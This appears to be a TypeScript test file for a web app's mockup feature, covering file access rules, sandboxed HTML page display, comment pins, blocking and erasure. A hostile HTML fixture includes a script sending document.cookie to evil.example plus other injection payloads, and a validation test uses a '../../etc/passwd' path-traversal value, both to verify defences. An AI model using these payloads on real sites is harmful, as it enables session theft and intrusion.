/** Mockups: files that go into them, pages that can do nothing, and what is said about points of them. */
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { expect } from 'vitest';
import { setBoundary } from '#kit/boundaries/contract.ts';
import { files } from '#kit/files/table.server.ts';
import { notifications } from '#kit/notifications/table.server.ts';
import { erasePerson } from '#kit/privacy/erase-person.server.ts';
import { getCreation, listGallery } from '#features/gallery/contract.ts';
import { shareWork } from '#tools/share/contract.ts';
import { publishWork } from '#tools/share/gallery-contract.ts';
import { inviteToWork } from '#tools/work/collaborators-contract.ts';
import { copyWork, createWork, deleteWork, getWork, saveWork } from '#tools/work/contract.ts';
import type { Client } from '#testing/client.ts';
import { buildMember } from '#testing/factories.ts';
import { databaseTest as test, useTestApp } from '#testing/test-app.ts';
import { upload } from '#testing/upload.ts';
import type { Mockup } from './content.ts';
import {
  addMockupFile,
  addPin,
  deleteMockupComment,
  editMockupComment,
  listPins,
  mockupUse,
  replyToPin,
  resolvePin,
} from './contract.ts';
import { workTrash } from '#tools/work/trash.server.ts';

const app = useTestApp();
const absent = '0198c0de-0000-7000-8000-000000000000';
const picture = () =>
  sharp({ create: { width: 40, height: 80, channels: 3, background: '#4a8' } })
    .png()
    .toBuffer();
const page = (html: string) => new TextEncoder().encode(html);

const begin = async (client: Client, content: Mockup = { screens: [] }) =>
  (await client.call(createWork, { body: { kind: 'mockup', title: 'Sign-up', content } })).body.id;

async function give(client: Client, id: string, bytes: Uint8Array, name = 'a.png') {
  const { file } = await upload(client, mockupUse, name, bytes);
  return client.call(addMockupFile, { params: { id }, body: { file: file!.id } });
}

const screen = (file: string, is: 'picture' | 'page' = 'picture'): Mockup['screens'][number] => ({
  id: 'one',
  name: 'First',
  look: {
    device: 'phone',
    scheme: 'dark',
    turned: false,
    angle: 'straight',
    background: 'paper',
    shadow: 'soft',
  },
  versions: [{ id: 'v1', file, is, width: 40, height: 80, note: '', at: new Date().toISOString() }],
});

/** A mockup with one screen, and its file. */
async function build(client: Client, bytes?: Uint8Array, is: 'picture' | 'page' = 'picture') {
  const id = await begin(client);
  const { file } = (await give(client, id, bytes ?? (await picture()))).body;
  const { body } = await client.call(getWork, { params: { id } });
  const content = { screens: [screen(file, is)] };
  const saved = { revision: body.revision, schema: 1, content };
  expect((await client.call(saveWork, { params: { id }, body: saved })).status).toBe(200);
  return { id, file };
}
const point = { screen: 'one', version: 'v1', x: 0.25, y: 0.5 };
const pin = (client: Client, id: string, text = 'Too small') =>
  client.call(addPin, { params: { id }, body: { ...point, text } });
const pins = async (client: Client, id: string) =>
  (await client.call(listPins, { params: { id } })).body.items;
const invite = (client: Client, id: string, handle: string, role: 'reader' | 'commenter' | 'editor') =>
  client.call(inviteToWork, { params: { id }, body: { who: handle, role } });

test('a picture goes into a mockup and is read by those who may read the mockup, and by nobody else', async () => {
  const ana = await buildMember(app);
  const ben = await buildMember(app);
  const { id, file } = await build(ana.client);
  const address = `/api/files/${file}?disposition=inline&by=work:${id}`;
  expect((await ana.client.request(address)).headers.get('content-type')).toBe('image/webp');
  for (const client of [app.client(), ben.client]) expect((await client.request(address)).status).toBe(404);
  expect((await invite(ana.client, id, ben.user.username!, 'reader')).status).toBe(200);
  expect((await ben.client.request(address)).status).toBe(200);
  // Named by another mockup it is not to be had.
  const other = await begin(ben.client);
  expect((await ben.client.request(`/api/files/${file}?by=work:${other}`)).status).toBe(404);
  const { body: share } = await ana.client.call(shareWork, { params: { id }, body: { version: null } });
  const shared = (secret: string) => app.client().request(`/api/files/${file}?by=share:${secret}`);
  expect((await shared(share.secret)).status).toBe(200);
  expect((await shared('wrong')).status).toBe(404);
  // What is not in it any more is not shown by the link.
  const { body } = await ana.client.call(getWork, { params: { id } });
  const emptied = { revision: body.revision, schema: 1, content: { screens: [] } };
  await ana.client.call(saveWork, { params: { id }, body: emptied });
  expect((await shared(share.secret)).status).toBe(404);
});

test('everyone sees the pictures of a mockup in the gallery, small and whole', async () => {
  const ana = await buildMember(app);
  const { id, file } = await build(ana.client);
  const said = { title: 'Sign-up in green', caption: '', tags: [] };
  const { body: hung } = await ana.client.call(publishWork, { params: { id }, body: said });
  const stranger = app.client();
  const { items } = (await stranger.call(listGallery, { query: { q: 'Sign-up in green' } })).body;
  expect(items).toMatchObject([{ id: hung.id, picture: { id: file } }]);
  const read = (by: string) => stranger.request(`/api/files/${file}?disposition=inline${by}`);
  expect((await read(`&by=creation:${hung.id}`)).status).toBe(200);
  expect((await read('')).status).toBe(404);
  // A page is no picture.
  const other = await build(ana.client, page('<p>Hello'), 'page');
  const { body: page2 } = await ana.client.call(publishWork, { params: { id: other.id }, body: said });
  expect((await stranger.call(getCreation, { params: { id: page2.id } })).body.picture).toBeNull();
});

test('an editor brings a file, which is the owner’s from then on', async () => {
  const ana = await buildMember(app);
  const [ben, cleo] = [await buildMember(app), await buildMember(app)];
  const id = await begin(ana.client);
  await invite(ana.client, id, ben.user.username!, 'editor');
  await invite(ana.client, id, cleo.user.username!, 'commenter');
  const { body } = await give(ben.client, id, await picture());
  const [row] = await app.services.db.select().from(files).where(eq(files.id, body.file));
  expect(row).toMatchObject({ ownerId: ana.user.id, purpose: `work:${id}`, expiresAt: null });
  expect((await give(cleo.client, id, await picture())).status).toBe(403);
  const { file } = await upload(ben.client, mockupUse, 'b.png', await picture());
  const given = { file: file!.id };
  expect((await app.client().call(addMockupFile, { params: { id }, body: given })).status).toBe(404);
  expect((await ana.client.call(addMockupFile, { params: { id }, body: given })).status).toBe(404);
  expect((await ben.client.call(addMockupFile, { params: { id: absent }, body: given })).status).toBe(404);
  expect((await ben.client.call(addMockupFile, { params: { id }, body: { file: 'x' } })).status).toBe(422);
});

const hostile = `<html><head><script>fetch('https://evil.example/?'+document.cookie)</script>
<link rel=preconnect href=https://evil.example><meta http-equiv=refresh content="0;url=https://evil.example">
<style>body{background:url(https://evil.example/x.png)}@import 'https://evil.example/x.css';</style></head>
<body onload="alert(1)"><h1>Hello</h1><img src=https://evil.example/y.png><iframe src=/api/auth/user></iframe></body></html>`;

test('a page is shown in a frame in which nothing runs, loads or leads anywhere', async () => {
  const { client } = await buildMember(app);
  const { id, file } = await build(client, page(hostile), 'page');
  const { status, headers, text } = await client.request(`/api/files/${file}?part=page&by=work:${id}`);
  expect(status).toBe(200);
  const policy = headers.get('content-security-policy')!;
  expect(policy).toMatch(/^sandbox;/);
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("frame-ancestors 'self'");
  expect(policy).toContain("form-action 'none'");
  expect(policy).not.toMatch(/allow-|https?:|connect-src/);
  expect(headers.get('x-content-type-options')).toBe('nosniff');
  expect(headers.get('referrer-policy')).toBe('no-referrer');
  expect(headers.get('x-dns-prefetch-control')).toBe('off');
  expect(text).toContain('<h1>Hello</h1>');
  expect(text).not.toMatch(/<script|onload|preconnect|refresh|<iframe|src="https/);
  // Outside of its frame it is bytes to save.
  const plain = await client.request(`/api/files/${file}?disposition=inline`);
  expect(plain.headers.get('content-type')).toBe('application/octet-stream');
  expect(plain.headers.get('content-disposition')).toMatch(/^attachment/);
  // A picture is no page, and strangers get neither.
  const other = await build(client);
  expect((await client.request(`/api/files/${other.file}?part=page`)).status).toBe(404);
  expect((await app.client().request(`/api/files/${file}?part=page&by=work:${id}`)).status).toBe(404);
});

test.for([
  ['an SVG', page('<svg xmlns="http://www.w3.org/2000/svg"></svg>')],
  ['a PDF', page('%PDF-1.7 x')],
  ['plain text', page('hello')],
  ['half a picture', page('\u0089PNG\r\n')],
  ['HTML that is no text', new Uint8Array([0x3c, 0x70, 0x3e, 0xff, 0xfe, 0xfd])],
  ['a page of 3 MB', page(`<p>${'x'.repeat(3_000_000)}`)],
] as const)('%s does not go into a mockup', async ([, bytes]) => {
  const { client } = await buildMember(app);
  const { status, text } = await upload(client, mockupUse, 'a.png', bytes);
  expect(status).toBeGreaterThanOrEqual(400);
  expect(status).toBeLessThan(500);
  expect(text).toMatch(/message/);
});

test('content that makes no sense is not kept', async () => {
  const { client } = await buildMember(app);
  const good = screen(absent);
  for (const content of [
    { screens: [{ ...good, versions: [] }] },
    { screens: [{ ...good, look: { ...good.look, device: 'toaster' } }] },
    { screens: [{ ...good, name: 'a\0b' }] },
    { screens: Array.from({ length: 31 }, () => good) },
    { screens: [{ ...good, versions: [{ ...good.versions[0]!, file: '../../etc/passwd' }] }] },
    { screens: [], more: 1 },
  ]) {
    const body = { kind: 'mockup', title: 'x', content };
    expect((await client.call(createWork, { body })).status).toBe(422);
  }
});

test('pins have threads, are resolved, and everyone concerned hears of it', async () => {
  const ana = await buildMember(app, { name: 'Ana' });
  const [ben, cleo] = [await buildMember(app, { name: 'Ben' }), await buildMember(app)];
  const { id } = await build(ana.client);
  await invite(ana.client, id, ben.user.username!, 'commenter');
  await invite(ana.client, id, cleo.user.username!, 'reader');
  const { body: first } = await pin(ben.client, id);
  const reply = { params: { id: first.id }, body: { text: 'Larger now' } };
  const { body: second } = await ana.client.call(replyToPin, reply);
  expect(await pins(cleo.client, id)).toMatchObject([
    {
      text: 'Too small',
      x: 0.25,
      y: 0.5,
      author: { name: 'Ben' },
      mine: false,
      replies: [{ text: 'Larger now' }],
    },
  ]);
  const notices = await app.services.db
    .select()
    .from(notifications)
    .where(eq(notifications.kind, 'mockup.commented'));
  expect(notices.map(({ ownerId, data }) => [ownerId, (data as { title: string }).title])).toEqual([
    [ana.user.id, 'Ben commented on “Sign-up”'],
    [ben.user.id, 'Ana replied on “Sign-up”'],
  ]);
  const resolve = (client: Client, which: string, resolved: boolean) =>
    client.call(resolvePin, { params: { id: which }, body: { resolved } });
  expect((await resolve(cleo.client, first.id, true)).status).toBe(403);
  expect((await resolve(ana.client, second.id, true)).status).toBe(404);
  expect((await resolve(ana.client, first.id, true)).status).toBe(200);
  expect((await pins(ana.client, id))[0]).toMatchObject({ resolved: true });
  await resolve(ben.client, first.id, false);
  expect((await pins(ana.client, id))[0]).toMatchObject({ resolved: false });
  // Only readers and above; only one's own words.
  const stranger = await buildMember(app);
  for (const client of [app.client(), stranger.client]) {
    expect((await client.call(listPins, { params: { id } })).status).toBe(404);
    expect((await pin(client, id)).status).toBe(404);
    expect((await client.call(replyToPin, reply)).status).toBe(404);
    expect((await resolve(client, first.id, true)).status).toBe(404);
    expect((await client.call(editMockupComment, reply)).status).toBe(404);
    expect((await client.call(deleteMockupComment, { params: { id: first.id } })).status).toBe(404);
  }
  expect((await pin(cleo.client, id)).status).toBe(403);
  expect((await ana.client.call(editMockupComment, reply)).status).toBe(403);
  expect((await ana.client.call(deleteMockupComment, { params: { id: first.id } })).status).toBe(403);
  expect((await ben.client.call(replyToPin, { ...reply, params: { id: absent } })).status).toBe(404);
  for (const wrong of [
    { x: 1.2 },
    { y: -1 },
    { text: ' ' },
    { text: 'a\0b' },
    { screen: 'nope' },
    { version: 'v9' },
  ])
    expect(
      (await ben.client.call(addPin, { params: { id }, body: { ...point, text: 'x', ...wrong } })).status,
    ).toBe(422);
  await ben.client.call(editMockupComment, { params: { id: first.id }, body: { text: 'Much too small' } });
  expect((await pins(ana.client, id))[0]).toMatchObject({ text: 'Much too small' });
  // Deleted, what others answered stays.
  await ben.client.call(deleteMockupComment, { params: { id: first.id } });
  expect((await pins(ana.client, id))[0]).toMatchObject({
    text: '',
    deleted: true,
    replies: [{ text: 'Larger now' }],
  });
});

test('whoever adds screens may speak of one that is not saved yet; others may not', async () => {
  const [ana, ben] = [await buildMember(app), await buildMember(app)];
  const { id } = await build(ana.client);
  await invite(ana.client, id, ben.user.username!, 'commenter');
  const body = { ...point, screen: 'two', text: 'Larger' };
  expect((await ben.client.call(addPin, { params: { id }, body })).status).toBe(422);
  expect((await ana.client.call(addPin, { params: { id }, body })).status).toBe(200);
});

test('who leaves takes their name and not the thread; who is blocked is not heard', async () => {
  const ana = await buildMember(app);
  const [ben, cleo] = [await buildMember(app), await buildMember(app)];
  const { id } = await build(ana.client);
  for (const { user } of [ben, cleo]) await invite(ana.client, id, user.username!, 'commenter');
  const { body } = await pin(ben.client, id, 'Ben was here');
  const { body: hers } = await pin(cleo.client, id, 'Cleo too');
  await cleo.client.call(setBoundary, { params: { handle: ben.user.username! }, body: { kind: 'block' } });
  expect((await pins(cleo.client, id)).map(({ text }) => text)).toEqual(['Cleo too']);
  // Nor does who is blocked read the other's words; to whom knows the address it is still refused.
  expect((await pins(ben.client, id)).map(({ text }) => text)).toEqual(['Ben was here']);
  const reply = { params: { id: hers.id }, body: { text: 'Hey' } };
  expect((await ben.client.call(replyToPin, reply)).status).toBe(403);
  await erasePerson(app.services, ben.user, { actorId: ben.user.id });
  expect((await pins(ana.client, id))[0]).toMatchObject({ id: body.id, text: 'Ben was here', author: null });
});

test('files go with the mockup, but not from a copy of it', async () => {
  const { client } = await buildMember(app);
  const { id, file } = await build(client);
  const { body: copy } = await client.call(copyWork, { params: { id } });
  await client.call(deleteWork, { params: { id } });
  await workTrash.purge(app.services, id);
  expect((await client.request(`/api/files/${file}?by=work:${copy.id}`)).status).toBe(200);
  await client.call(deleteWork, { params: { id: copy.id } });
  await workTrash.purge(app.services, copy.id);
  expect((await client.request(`/api/files/${file}`)).status).toBe(404);
});
